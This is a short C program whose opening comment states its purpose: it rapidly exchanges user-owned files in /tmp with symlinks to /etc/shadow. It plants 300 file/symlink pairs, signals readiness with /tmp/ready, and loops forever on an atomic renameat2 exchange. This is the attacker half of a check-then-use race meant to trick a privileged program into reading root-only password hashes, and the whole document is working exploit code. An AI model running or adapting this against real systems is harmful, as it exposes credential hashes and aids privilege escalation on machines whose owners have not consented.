/* Exchanges files of a user's with links to what only root may read, as fast as it can. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define FILES 300

static void name(char *into, char kind, int number)
{
	sprintf(into, "/tmp/%c/%03d", kind, number);
}

int main(void)
{
	char file[32], link[32], content[3000];

	memset(content, 'z', sizeof(content));
	mkdir("/tmp/f", 0700);
	mkdir("/tmp/l", 0700);
	for (int number = 0; number < FILES; number++) {
		name(file, 'f', number);
		name(link, 'l', number);
		int fd = open(file, O_CREAT | O_WRONLY, 0600);
		write(fd, content, sizeof(content));
		close(fd);
		symlink("/etc/shadow", link);
	}
	close(open("/tmp/ready", O_CREAT | O_WRONLY, 0600));
	for (int number = 0;; number = (number + 1) % FILES) {
		name(file, 'f', number);
		name(link, 'l', number);
		syscall(SYS_renameat2, AT_FDCWD, file, AT_FDCWD, link, 2);
	}
}
